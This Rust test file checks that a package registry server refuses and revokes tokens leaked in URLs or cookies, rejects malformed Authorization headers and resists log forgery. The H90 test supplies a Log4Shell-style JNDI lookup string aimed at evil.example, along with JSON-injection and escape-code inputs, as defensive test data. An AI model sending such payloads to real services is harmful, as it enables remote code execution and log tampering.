//! H88, H90: tokens where they do not belong, and text that wants into the log.

use ingot_tests::client::{Client, raw};
use ingot_tests::wire::{exchange, request};
use serde_json::json;

use super::{Victim, refused, turned_away};

async fn mint(admin: &Client) -> String {
    let grants = json!([{"actions": ["read"], "packages": "*"}]);
    let body = json!({"name": "leaky", "grants": grants, "expires_in": "1d"});
    let answer = admin.post("/api/v1/projects/main/tokens", body).await.expect_any(&[200, 201]);
    answer.json()["token"].as_str().expect("token").to_owned()
}

#[tokio::test(flavor = "multi_thread")]
async fn h88_a_token_in_a_url_is_refused_and_revoked() {
    let victim = Victim::new().await;
    let address = victim.server.address();
    let path = raw("known", "1", "known.zip");
    let mut secrets = Vec::new();
    for place in ["query", "access_token", "path", "encoded"] {
        let token = mint(&victim.admin).await;
        let target = match place {
            "query" => format!("{path}?token={token}"),
            "access_token" => format!("{path}?access_token={token}"),
            "path" => raw("known", "1", &token),
            _ => format!("{path}?t=%69{}", &token[1..]),
        };
        victim.server.client(&token).get(&path).await.expect(200);
        let reply = exchange(address, &request("GET", &target, &[], b"")).await;
        refused(&format!("H88 {place}"), &reply, &[400, 401]);
        // "valid ones revoked": it stands in the logs of every proxy on the way.
        let after = victim.server.client(&token).get(&path).await;
        assert_eq!(after.status, 401, "H88 {place}: it is still good: {}", after.shown());
        secrets.push(token);
    }
    let userinfo = mint(&victim.admin).await;
    let target = format!("http://me:{userinfo}@127.0.0.1{path}");
    turned_away(
        "H88 userinfo",
        &exchange(address, &request("GET", &target, &[], b"")).await,
        &[400, 401],
    );
    secrets.push(userinfo);
    let log = victim.server.log();
    for token in &secrets {
        assert!(!log.contains(&token[8..]), "H88: a token is in the log");
    }
    victim.unharmed().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn h88_two_tokens_or_none_to_speak_of() {
    let victim = Victim::new().await;
    let address = victim.server.address();
    let path = raw("known", "1", "known.zip");
    let token = mint(&victim.admin).await;
    let bearer = format!("Bearer {token}");
    let twice = [("Authorization", bearer.as_str()), ("Authorization", bearer.as_str())];
    refused(
        "H88 two headers",
        &exchange(address, &request("GET", &path, &twice, b"")).await,
        &[400],
    );
    let both = [("Authorization", bearer.as_str()), ("Authorization", "Basic eDp5")];
    refused(
        "H88 both schemes",
        &exchange(address, &request("GET", &path, &both, b"")).await,
        &[400],
    );
    let cookie = format!("token={token}");
    let reply = exchange(address, &request("GET", &path, &[("Cookie", &cookie)], b"")).await;
    refused("H88 cookie", &reply, &[400, 401]);
    let fresh = mint(&victim.admin).await;
    let last = if fresh.ends_with('0') { '1' } else { '0' };
    let damaged = format!("{}{last}", &fresh[..fresh.len() - 1]);
    let long = "a".repeat(10_000);
    for value in [
        format!("Bearer {damaged}"),
        format!("Bearer {long}"),
        "Bearer".to_owned(),
        "Bearer ".to_owned(),
        "Basic !!!".to_owned(),
        "Basic eA==".to_owned(),
        "Digest username=x".to_owned(),
        format!("Bearer {fresh} {fresh}"),
        format!("Bearer {}", fresh.to_uppercase()),
    ] {
        let headers = [("Authorization", value.as_str())];
        let reply = exchange(address, &request("GET", &path, &headers, b"")).await;
        refused(&format!("H88 {value:.60}"), &reply, &[400, 401]);
    }
    victim.server.client(&fresh).get(&path).await.expect(200);
    let log = victim.server.log();
    assert!(!log.contains(&token[8..]) && !log.contains(&fresh[8..]) && !log.contains(&long));
    victim.unharmed().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn h90_nothing_a_client_says_forges_a_log_line() {
    let victim = Victim::new().await;
    let path = raw("known", "1", "known.zip");
    let marker = "${jndi:ldap://evil.example/x}";
    let quote = "\"} {\"level\":\"ERROR\",\"forged\":\"yes";
    for agent in [marker, quote, "a\tb"] {
        let reply = victim.send("GET", &path, &[("User-Agent", agent)], b"").await;
        assert_eq!(reply.status(), Some(200), "H90 {agent:?}: {}", reply.shown());
    }
    // No header holds these; the HTTP library says so.
    for agent in ["a\u{1b}[31mred", "a\0b"] {
        let reply = victim.send("GET", &path, &[("User-Agent", agent)], b"").await;
        assert!(matches!(reply.status(), Some(200 | 400)), "H90 {agent:?}: {}", reply.shown());
    }
    let reason = "a reason\n{\"level\":\"ERROR\",\"forged\":\"yes\"}\u{1b}[31m";
    let body = json!({"releases": [{"package": "raw:known", "ref": "1"}], "reason": reason});
    let answer = victim.admin.post("/api/v1/projects/main/channels/dev/promotions", body).await;
    assert!([201, 400, 422].contains(&answer.status), "{}", answer.shown());
    for line in victim.server.log().lines() {
        assert!(!line.contains('\u{1b}'), "H90: a raw escape: {line:?}");
        // "JSON logs when not on a terminal": each line that is one stands for itself.
        if line.starts_with('{') {
            let entry: serde_json::Value = serde_json::from_str(line).expect("a whole JSON line");
            assert!(entry.get("forged").is_none(), "H90: {line}");
        }
    }
    victim.unharmed().await;
}
